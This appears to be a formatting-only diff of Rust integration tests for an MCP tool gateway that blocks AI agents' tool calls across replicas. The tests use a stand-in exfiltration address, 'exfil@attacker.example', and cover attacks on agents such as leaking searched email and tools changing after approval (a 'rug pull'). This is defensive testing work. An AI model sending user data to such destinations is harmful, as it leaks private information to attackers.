@@ -80,7 +80,11 @@ fn deploy(server_args: &str) -> Option<Deployment> {
     let redis = RedisServer::start()?;
     let tmp = tempfile::tempdir().unwrap();
     let dir = tmp.path().canonicalize().unwrap();
-    std::fs::write(dir.join("secret"), "5b1f0c8e7a2d4c6b9e0f1a3c5d7e9f1b2c4d6e8f0a1b3c5d7e9f0a2b4c6d8e0f").unwrap();
+    std::fs::write(
+        dir.join("secret"),
+        "5b1f0c8e7a2d4c6b9e0f1a3c5d7e9f1b2c4d6e8f0a1b3c5d7e9f0a2b4c6d8e0f",
+    )
+    .unwrap();
     std::fs::write(dir.join("policy.yaml"), POLICY).unwrap();
     let ns = format!("t{}", std::process::id());
     let a = GatewayProcess::start(&config(&dir, "a", &redis.url(), &ns, server_args), &[]);
@@ -117,7 +121,10 @@ fn open(gw: &GatewayProcess, agent: Option<&str>, capabilities: Value) -> String
         init.to_string().as_bytes(),
     );
     assert_eq!(reply.status, 200);
-    let session = reply.header("mcp-session-id").expect("session id").to_owned();
+    let session = reply
+        .header("mcp-session-id")
+        .expect("session id")
+        .to_owned();
     let answer = message_of(reply);
     assert!(answer.get("result").is_some(), "{answer}");
     let r = gw.post(
@@ -146,7 +153,8 @@ fn blocked(answer: &Value) -> Option<String> {
         return None;
     }
     let text = result["content"][0]["text"].as_str()?;
-    text.starts_with("toolgate blocked").then(|| text.to_owned())
+    text.starts_with("toolgate blocked")
+        .then(|| text.to_owned())
 }
 
 fn allowed(answer: &Value) -> bool {
@@ -178,7 +186,10 @@ fn taint_seen_through_one_replica_denies_a_send_through_the_other() {
     );
     let why = blocked(&send).unwrap_or_else(|| panic!("not blocked: {send}"));
     assert!(why.contains("exfil@attacker.example"), "{why}");
-    assert!(why.contains("search_emails"), "the reason names the source: {why}");
+    assert!(
+        why.contains("search_emails"),
+        "the reason names the source: {why}"
+    );
     // A send to a trusted destination through B passes; the server ran only that one.
     let ok = call(
         &d.b,
@@ -212,7 +223,13 @@ fn taint_is_shared_by_the_sessions_of_one_agent_session() {
     let reader = open(&d.a, Some("agent-7"), json!({}));
     let sender = open(&d.b, Some("agent-7"), json!({}));
     let other = open(&d.b, Some("agent-8"), json!({}));
-    assert!(allowed(&call(&d.a, &reader, 1, "search_emails", json!({"query": "x"}))));
+    assert!(allowed(&call(
+        &d.a,
+        &reader,
+        1,
+        "search_emails",
+        json!({"query": "x"})
+    )));
     let to_attacker = json!({"to": ["exfil@attacker.example"], "subject": "k", "body": "x"});
     let send = call(&d.b, &sender, 2, "send_email", to_attacker.clone());
     assert!(blocked(&send).is_some(), "{send}");
@@ -242,12 +259,21 @@ fn a_budget_is_counted_across_both_replicas() {
         .into_iter()
         .filter(|r| r["name"] == json!("list_contacts"))
         .count();
-    assert_eq!(ran, 3, "the server ran exactly the three calls within the budget");
+    assert_eq!(
+        ran, 3,
+        "the server ran exactly the three calls within the budget"
+    );
 }
 
 /// Sends a call whose answer is an SSE stream that starts with an `elicitation/create`,
 /// answers it with `choice` through the same replica, and returns the final answer.
-fn call_answering(gw: &GatewayProcess, session: &str, id: u64, args: Value, choice: usize) -> Value {
+fn call_answering(
+    gw: &GatewayProcess,
+    session: &str,
+    id: u64,
+    args: Value,
+    choice: usize,
+) -> Value {
     let msg = json!({"jsonrpc": "2.0", "id": id, "method": "tools/call",
         "params": {"name": "send_email", "arguments": args}});
     let mut reply = gw.post("mail", TOKEN, Some(session), &msg.to_string());
@@ -260,7 +286,11 @@ fn call_answering(gw: &GatewayProcess, session: &str, id: u64, args: Value, choi
     );
     let event = reply.next_event().unwrap().expect("the question");
     let question: Value = serde_json::from_str(&event.data).unwrap();
-    assert_eq!(question["method"], json!("elicitation/create"), "{question}");
+    assert_eq!(
+        question["method"],
+        json!("elicitation/create"),
+        "{question}"
+    );
     let props = &question["params"]["requestedSchema"]["properties"];
     let (field, schema) = props.as_object().unwrap().iter().next().unwrap();
     let value = schema["enum"][choice].clone();
@@ -297,13 +327,21 @@ fn an_approval_given_through_one_replica_covers_the_same_action_on_the_other() {
         .filter(|r| r["name"] == json!("send_email"))
         .map(|r| r["arguments"]["to"].clone())
         .collect();
-    assert_eq!(to, [json!(["bob@partner.example"]), json!(["bob@partner.example"])]);
+    assert_eq!(
+        to,
+        [
+            json!(["bob@partner.example"]),
+            json!(["bob@partner.example"])
+        ]
+    );
 }
 
 #[test]
 fn a_rug_pull_seen_through_one_replica_is_enforced_on_the_other() {
     // Each upstream changes `search_emails` after its second call.
-    let Some(d) = deploy(", --rug-pull-after, '2'") else { return };
+    let Some(d) = deploy(", --rug-pull-after, '2'") else {
+        return;
+    };
     let s = open(&d.a, None, json!({}));
     let list = |gw: &GatewayProcess, id: u64| {
         let msg = json!({"jsonrpc": "2.0", "id": id, "method": "tools/list"});
@@ -311,10 +349,28 @@ fn a_rug_pull_seen_through_one_replica_is_enforced_on_the_other() {
     };
     assert!(list(&d.a, 1)["result"]["tools"].is_array());
     // B's own upstream: one call, not pulled.
-    assert!(allowed(&call(&d.b, &s, 2, "search_emails", json!({"query": "q"}))));
+    assert!(allowed(&call(
+        &d.b,
+        &s,
+        2,
+        "search_emails",
+        json!({"query": "q"})
+    )));
     // A's upstream is pulled after its second call; A lists and sees the change.
-    assert!(allowed(&call(&d.a, &s, 3, "search_emails", json!({"query": "q"}))));
-    assert!(allowed(&call(&d.a, &s, 4, "search_emails", json!({"query": "q"}))));
+    assert!(allowed(&call(
+        &d.a,
+        &s,
+        3,
+        "search_emails",
+        json!({"query": "q"})
+    )));
+    assert!(allowed(&call(
+        &d.a,
+        &s,
+        4,
+        "search_emails",
+        json!({"query": "q"})
+    )));
     let _ = list(&d.a, 5);
     let on_a = call(&d.a, &s, 6, "search_emails", json!({"query": "q"}));
     assert!(blocked(&on_a).is_some(), "A: {on_a}");
@@ -336,12 +392,19 @@ fn when_redis_stops_every_call_is_denied_with_the_reason_and_service_comes_back(
         let answer = call(gw, &s, 10 + i as u64, "list_contacts", json!({}));
         let why = blocked(&answer).unwrap_or_else(|| panic!("allowed without the store: {answer}"));
         assert!(why.contains("state store"), "{why}");
-        assert!(why.contains(&d.redis.url().replace("redis://", "")) || why.contains("127.0.0.1"), "{why}");
+        assert!(
+            why.contains(&d.redis.url().replace("redis://", "")) || why.contains("127.0.0.1"),
+            "{why}"
+        );
         let ready = gw.get("/readyz");
         assert_eq!(ready.status, 503);
         assert_eq!(gw.get("/healthz").status, 200);
     }
-    assert_eq!(received(&d.record).len(), before, "nothing reached the server");
+    assert_eq!(
+        received(&d.record).len(),
+        before,
+        "nothing reached the server"
+    );
     d.redis.restart();
     assert!(
         wait_until(Duration::from_secs(10), || d.a.get("/readyz").status == 200),
@@ -374,10 +437,13 @@ fn a_replica_killed_in_the_middle_of_a_call_leaves_an_error_not_silence() {
     let Some(mut d) = deploy("") else { return };
     let s = open(&d.a, None, json!({"elicitation": {}}));
     // A call that waits for a human (an ask), in flight when A is killed.
-    let msg = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "send_email",
-        "arguments": {"to": ["bob@partner.example"], "subject": "s", "body": "x"}}}).to_string();
+    let msg =
+        json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "send_email",
+        "arguments": {"to": ["bob@partner.example"], "subject": "s", "body": "x"}}})
+        .to_string();
     let mut conn = TcpStream::connect(&d.a.addr).unwrap();
-    conn.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
+    conn.set_read_timeout(Some(Duration::from_secs(20)))
+        .unwrap();
     write!(
         conn,
         "POST /servers/mail/mcp HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\nAuthorization: Bearer {TOKEN}\r\nMcp-Session-Id: {s}\r\nContent-Length: {}\r\n\r\n{msg}",
@@ -404,13 +470,18 @@ fn a_replica_killed_in_the_middle_of_a_call_leaves_an_error_not_silence() {
         "the client learns at once that the exchange ended"
     );
     let rest = String::from_utf8_lossy(&rest);
-    assert!(end.is_err() || !rest.contains("\"result\""), "no result was made up: {rest}");
+    assert!(
+        end.is_err() || !rest.contains("\"result\""),
+        "no result was made up: {rest}"
+    );
     // The client goes on with the same session on B.
     let answer = call(&d.b, &s, 2, "list_contacts", json!({}));
     assert!(allowed(&answer), "{answer}");
     // Nothing of the interrupted call ran.
     assert!(
-        !received(&d.record).iter().any(|r| r["name"] == json!("send_email")),
+        !received(&d.record)
+            .iter()
+            .any(|r| r["name"] == json!("send_email")),
         "the send never reached the server"
     );
 }
@@ -427,7 +498,12 @@ fn a_session_is_refused_to_another_user_and_an_unknown_id_is_404() {
         r#"{"jsonrpc":"2.0","id":1,"method":"tools/list"}"#,
     );
     assert_eq!(r.status, 404, "a tampered id is not a session");
-    let r = d.b.post("mail", TOKEN, Some("tg1.nope"), r#"{"jsonrpc":"2.0","id":1,"method":"ping"}"#);
+    let r = d.b.post(
+        "mail",
+        TOKEN,
+        Some("tg1.nope"),
+        r#"{"jsonrpc":"2.0","id":1,"method":"ping"}"#,
+    );
     assert_eq!(r.status, 404);
     let _ = initialize(1);
 }
